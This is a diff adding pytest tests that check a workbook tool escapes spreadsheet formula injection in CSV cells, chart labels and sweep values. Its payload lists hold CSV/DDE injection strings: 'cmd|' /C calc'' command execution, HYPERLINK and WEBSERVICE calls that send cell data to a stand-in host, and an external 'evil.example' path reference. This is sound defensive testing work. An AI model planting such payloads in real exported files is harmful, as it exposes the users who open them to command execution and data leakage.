@@ -545,3 +545,121 @@ def test_a_bare_number_among_pieces_in_degrees_is_in_degrees(tmp_path):
         got = sheet.evaluate(name, theta=[45, 120])
         assert str(got.units) == "degree"
         assert list(got.magnitude) == [45.0, 90.0]
+
+
+# -- injection: CSV cells and chart labels -------------------------------------------------
+
+CSV_PAYLOADS = [
+    '=HYPERLINK("http://x.example/?"&A1,"x")',
+    "=cmd|' /C calc'!A0",
+    '=DDE("cmd";"/C calc";"x")',
+    '=WEBSERVICE("http://x.example")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "\uff1d1+1",
+]
+
+
+def _csv_rows(path: Path) -> list[list[str]]:
+    import csv
+
+    with open(path, newline="", encoding="utf-8") as f:
+        return list(csv.reader(f))
+
+
+@pytest.mark.parametrize("dtype", [object, "str", "category"])
+def test_every_text_cell_of_a_csv_is_escaped_whatever_its_dtype(tmp_path, dtype):
+    # pandas 3 gives text columns the dtype str: escaping only dtype object wrote them raw
+    import pandas as pd
+
+    from workbook.atomic import write_csv
+
+    texts = [*CSV_PAYLOADS, "plain", "x=1"]
+    frame = pd.DataFrame({"=label": pd.Series(texts, dtype=dtype), "n": range(len(texts))})
+    write_csv(frame, tmp_path / "t.csv")
+    rows = _csv_rows(tmp_path / "t.csv")
+    assert rows[0] == ["'=label", "n"]
+    for text, (cell, n) in zip(texts, rows[1:]):
+        assert cell == ("'" + text if text in CSV_PAYLOADS else text)
+        assert n == str(texts.index(text))
+
+
+INJECT_LABELS = r"""
+[inputs]
+R = "2 mm"
+mode = { value = "-2+3", options = ["-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0"] }
+
+[arguments]
+phi = { unit = "deg" }
+
+[definitions]
+"y(phi)" = "R*sin(phi)"
+"v(phi)" = "\"=HYPERLINK(\\\"http://x.example\\\")\" if phi < 45 otherwise \"\t=1+1\""
+
+[[tables]]
+name = "t"
+range = "phi := 0, 30 .. 90"
+columns = [{ expr = "y", unit = "mm" }, { expr = "v" }]
+
+[[charts]]
+name = "c"
+title = "'\\\\evil.example\\s\\[x.xlsx]S'!A1"
+range = "phi := 0 .. 90"
+x = { expr = "phi", title = "Inputs!B2" }
+y_title = "cmd|' /C calc'!A0"
+series = [{ y = "y", unit = "mm", name = "=DDE(\"cmd\";\"/C calc\";\"x\")" }]
+"""
+
+CHART_LABELS = [
+    "'\\\\evil.example\\s\\[x.xlsx]S'!A1",
+    "Inputs!B2",
+    "cmd|' /C calc'!A0",
+    '=DDE("cmd";"/C calc";"x")',
+]
+
+
+def _chart_references(path: Path) -> list[str]:
+    import re
+    import zipfile
+
+    with zipfile.ZipFile(path) as z:
+        assert not [n for n in z.namelist() if "externalLink" in n]
+        charts = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/charts/")]
+    return [f for chart in charts for f in re.findall(r"<c:f>([^<]*)</c:f>", chart)]
+
+
+def test_text_cells_and_chart_labels_of_a_run_stay_text(tmp_path):
+    write(tmp_path / "t.toml", INJECT_LABELS)
+    out = cli(tmp_path, "run", "t.toml", "--out", "t.xlsx", "--csv", "t")
+    assert out.returncode == 0, out.stderr
+    rows = _csv_rows(tmp_path / "t.t.csv")
+    assert [r[2] for r in rows[1:]] == ['\'=HYPERLINK("http://x.example")'] * 2 + ["'\t=1+1"] * 2
+    # every chart label that xlsxwriter would read as a reference is a text cell referred to
+    refs = _chart_references(tmp_path / "t.xlsx")
+    labels = [r for r in refs if r.startswith("Charts!$P$")]
+    assert len(labels) == 4
+    assert all(r in labels or r.startswith("'Chart data'!") for r in refs), refs
+    ws = openpyxl.load_workbook(tmp_path / "t.xlsx")["Charts"]
+    texts = [ws[r.split("!")[1].replace("$", "")] for r in labels]
+    assert all(c.data_type == "s" for c in texts)
+    assert sorted(c.value for c in texts) == sorted(CHART_LABELS)
+
+
+def test_sweep_choice_values_and_chart_labels_stay_text(tmp_path):
+    write(tmp_path / "t.toml", INJECT_LABELS)
+    vary = ["--vary", "mode=-2+3,@SUM(A1)", "--vary", "R=1mm,2mm", "--output", "q=y(0.5)"]
+    out = cli(tmp_path, "sweep", "t.toml", *vary, "--out", "s.csv")
+    assert out.returncode == 0, out.stderr
+    assert [r[0] for r in _csv_rows(tmp_path / "s.csv")[1:]] == ["'-2+3"] * 2 + ["'@SUM(A1)"] * 2
+    out = cli(
+        tmp_path, "sweep", "t.toml", *vary[:2], "--output", "cmd|' /C calc'!A0=R", "--out", "s.xlsx"
+    )
+    assert out.returncode == 2  # not a name: refused before any label is written
+    out = cli(tmp_path, "sweep", "t.toml", *vary, "--out", "s.xlsx")
+    assert out.returncode == 0, out.stderr
+    refs = _chart_references(tmp_path / "s.xlsx")
+    assert all(r.startswith("Sweep!") for r in refs), refs
